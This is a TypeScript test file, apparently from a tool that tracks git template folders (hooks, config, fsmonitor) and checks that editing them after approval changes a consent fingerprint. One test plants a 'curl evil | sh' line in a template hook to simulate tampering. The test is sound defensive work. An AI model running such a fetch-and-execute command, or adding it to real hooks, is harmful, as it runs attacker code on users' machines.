/**
 * A git template folder the hook names (`GIT_TEMPLATE_DIR`, `init.templateDir`, `git clone
 * --template`): git copies its `hooks/` and `config` into the repository it makes and runs them,
 * so their content is covered (git-template-dir.ts) and an edit changes the consent fingerprint.
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { consentFingerprint } from "../src/fingerprint.js";
import { hookScripts } from "../src/hook-scripts.js";
import { referencedScripts } from "../src/script-references.js";
import { tempDir } from "./support.js";

const TEMPLATE = ["tpl/hooks/post-checkout", "tpl/hooks/pre-commit", "tpl/config", "fsm"];

function repo(): string {
  const dir = tempDir();
  const files: Record<string, string> = {
    "tpl/hooks/post-checkout": "#!/bin/sh\ntrue\n",
    "tpl/hooks/pre-commit": "#!/bin/sh\ntrue\n",
    "tpl/config": "[core]\n\tfsmonitor = ./fsm\n",
    "tpl/description": "not run\n",
    fsm: "true\n",
    gitconfig: "[init]\n\ttemplateDir = tpl\n",
  };
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

const relative = (dir: string, files: string[]) => files.map((f) => path.relative(dir, f));
const clone = { type: "command", command: "git clone https://example.com/x.git" } as const;

describe("a git template folder of the project", () => {
  it("GIT_TEMPLATE_DIR in the entry's env covers its hooks, its config and what the config runs", () => {
    const dir = repo();
    expect(relative(dir, hookScripts(clone, dir, { GIT_TEMPLATE_DIR: "tpl" }))).toEqual(TEMPLATE);
  });

  it("an edit of a template hook after approval changes the consent fingerprint", () => {
    const dir = repo();
    const env = { GIT_TEMPLATE_DIR: "tpl" };
    const before = consentFingerprint("entry", clone, dir, env);
    fs.writeFileSync(path.join(dir, "tpl/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n");
    expect(consentFingerprint("entry", clone, dir, env)).not.toBe(before);
  });

  it.each([
    ["git clone --template=tpl https://example.com/x.git", TEMPLATE],
    ["git init --template tpl new", TEMPLATE],
    ["git -c init.templateDir=tpl init new", TEMPLATE],
    ["GIT_TEMPLATE_DIR=tpl git init new", TEMPLATE],
    ["GIT_CONFIG_GLOBAL=gitconfig git init new", ["gitconfig", ...TEMPLATE]],
  ])("%s covers %j", (command, files) => {
    const dir = repo();
    expect(relative(dir, referencedScripts(command, dir))).toEqual(files);
  });
});
